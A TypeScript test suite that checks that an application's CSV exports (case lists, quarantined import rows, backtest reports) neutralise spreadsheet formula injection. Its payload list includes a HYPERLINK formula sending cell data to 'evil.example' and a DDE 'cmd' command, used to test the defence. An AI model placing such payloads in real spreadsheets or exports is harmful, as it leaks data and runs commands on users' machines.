/** Formulas in every CSV that leaves Peel: what strangers typed is text in a spreadsheet, numbers stay numbers, and there is one writer. */

import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { inertLine } from '../../src/kernel/csv.ts'
import { reportCsv } from '../../src/rooms/forecast/ui/report-csv.ts'
import { type Attacked, openAttackedHouse } from './open-attacked-house.ts'

let world: Attacked
before(async () => {
  world = await openAttackedHouse()
})
after(() => world.close())

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,1)',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '"=1+1',
  "'=1+1",
]

/** As each spreadsheet of the world would cut it: whatever the separator, no field begins as a formula does. */
function expectInert(csv: string): void {
  for (const delimiter of [',', ';', '\t']) {
    const rows = parse(csv, { delimiter, relax_column_count: true, relax_quotes: true }) as string[][]
    for (const field of rows.flat()) {
      const isNumber = /^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/i.test(field)
      assert.ok(
        isNumber || field === '-' || !/^[\s\0\ufeff\u200b]*[=+\-@＝＋－＠]/.test(field),
        `cut at ${JSON.stringify(delimiter)}: ${field}`,
      )
    }
  }
}

test('the list of cases', async () => {
  const now = world.clock.now()
  for (const text of formulas) {
    const basis = { kind: 'missing-person', reference: text, validFrom: now - 1, validUntil: now + 3_600_000 }
    const body = { title: `${text}  x`, kind: text, area: text, summary: text, basis }
    assert.equal((await world.ask('investigator', 'POST', '/api/trust/cases', body)).statusCode, 200, text)
  }
  assert.equal((await world.ask('investigator', 'POST', '/api/trust/duties', { kind: 'investigation' })).statusCode, 200)
  const { body } = await world.ask('investigator', 'GET', '/api/trust/cases/export.csv')
  assert.equal((parse(body) as unknown[]).length, formulas.length + 1)
  assert.ok(body.includes('HYPERLINK'), 'the suite reads what was typed')
  expectInert(body)
})

test('the rows that were set aside, in a file with any separator, with quotes that never close', async () => {
  for (const [separator, name] of [
    [',', 'comma'],
    [';', 'semicolon'],
    ['\t', 'tab'],
  ] as const) {
    const head = ['occurred_at', 'category', 'lon', 'lat'].join(separator)
    const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`
    const rows = formulas.flatMap((text) => [
      ['never', quoted(text), '-87.7', '41.8'].join(separator),
      ['never', quoted(`a${text}`), '-87.7', quoted(text)].join(separator),
    ])
    // The second line would be eaten by a quote that the first leaves open, and its own quote would set the formula free.
    const tricks = [
      `never${separator}"open${separator}-87.7${separator}41.8`,
      `never${separator}"x${separator}=1+1"${separator}-87.7${separator}=2+2`,
    ]
    const good = ['2026-06-01T10:10:00', 'Theft', '-87.7', '41.8'].join(separator)
    const path = join(world.house.home, `${name}.csv`)
    await writeFile(path, [head, good, ...rows, ...tricks, ''].join('\n'))
    const report = await world.house.records.importFile(world.house.agency, path, {
      name: `${name}.csv`,
      zone: 'America/Chicago',
    } as never)
    assert.ok(report.quarantined >= formulas.length, `${report.quarantined}`)
    let csv = ''
    for await (const piece of await world.house.records.quarantineCsv(world.house.agency, report.id)) csv += piece
    assert.ok(csv.includes('HYPERLINK') && csv.includes('-87.7'))
    assert.ok(csv.includes(`${separator}-87.7${separator}`), 'numbers survive as they stood')
    expectInert(csv)
  }
})

test('any line of anybody’s file, however it is cut', () => {
  const sign = fc.constantFrom('=', '+', '-', '@', '"', '""', ',', ';', '\t', ' ', "'", '1', 'a', '\r', '\n', '＝')
  fc.assert(
    fc.property(fc.array(sign, { maxLength: 14 }), fc.constantFrom(',', ';', '\t', '|'), (signs, separator) => {
      const line = inertLine(signs.join(''), separator)
      for (const field of cells(line)) {
        const free = /^[\s\0]*[=+\-@＝＋－＠]/.test(field) && field !== '-' && !/^[+-]?\d+$/.test(field)
        assert.equal(free, false, JSON.stringify({ line, field }))
      }
    }),
    { seed: 7, numRuns: 5_000 },
  )
})

/** As a lenient spreadsheet cuts a line: a quote counts only at the beginning of a field. */
function cells(line: string): string[] {
  const found: string[] = []
  for (let at = 0; at <= line.length; at++) {
    if (line[at] === '"') {
      let text = ''
      for (at++; at < line.length; at++) {
        if (line[at] === '"' && line[at + 1] === '"') at++
        else if (line[at] === '"') break
        text += line[at]
      }
      assert.equal(line[at], '"', `an open quote in ${JSON.stringify(line)}`)
      found.push(text)
      while (at < line.length && !',;\t\r\n'.includes(line[at + 1] ?? ',')) at++
      at++
      continue
    }
    const start = at
    while (at < line.length && !',;\t\r\n'.includes(line[at] as string)) at++
    found.push(line.slice(start, at))
  }
  return found
}

test('a line with nothing to run is left as it stood', () => {
  for (const line of ['a,b,"c, d",-87.65,+1e5,-', '2026-06-01T10:10:00;"say ""no""";41.8', 'x|=y', ''])
    assert.equal(inertLine(line, ','), line)
})

test('a backtest as a table', () => {
  const model = {
    name: '=cmd',
    hitRate: { 5: -0.5 },
    pai: {},
    peiStar: {},
    logScore: -6.2,
    brier: 1e-7,
    precision: {},
    stability: 1,
    cpuSeconds: 1,
  }
  const csv = reportCsv({ offence: '@burglary', from: '2026-01-01', to: '2026-02-01', models: [model] } as never)
  expectInert(csv)
  assert.ok(csv.includes(',-6.2,') && csv.includes(',1e-7,'), csv)
})

test('there is one writer of CSV: nobody else joins cells with commas or doubles quotes', () => {
  const root = fileURLToPath(new URL('../../', import.meta.url))
  // What came in is kept as it stood; it leaves through the writer.
  const keepers = [
    'src/kernel/csv.ts',
    'src/rooms/records/read-features.ts',
    'src/rooms/records/scan-csv.ts',
    'src/adapters/store-sql/session.ts',
    'src/rooms/records/without-persons.ts',
  ]
  let read = 0
  for (const folder of ['src', 'web']) {
    for (const entry of readdirSync(join(root, folder), { recursive: true, withFileTypes: true })) {
      const path = join(entry.parentPath, entry.name).slice(root.length)
      if (!/\.tsx?$/.test(path) || /\.test\.|\/dist\//.test(path)) continue
      read++
      if (keepers.includes(path)) continue
      const text = readFileSync(join(root, path), 'utf8')
      assert.doesNotMatch(text, /replace(All)?\((\/"\/g|'"'|`"`), ?'""'\)/, `${path} doubles quotes: use kernel/csv.ts`)
      if (/text\/csv/.test(text)) assert.match(text, /[cC]sv/, path)
      assert.doesNotMatch(text, /\.join\(','\)[^\n]*\\r?\\n|\\r?\\n[^\n]*\.join\(','\)/, `${path} joins cells: use kernel/csv.ts`)
    }
  }
  assert.ok(read > 300)
})
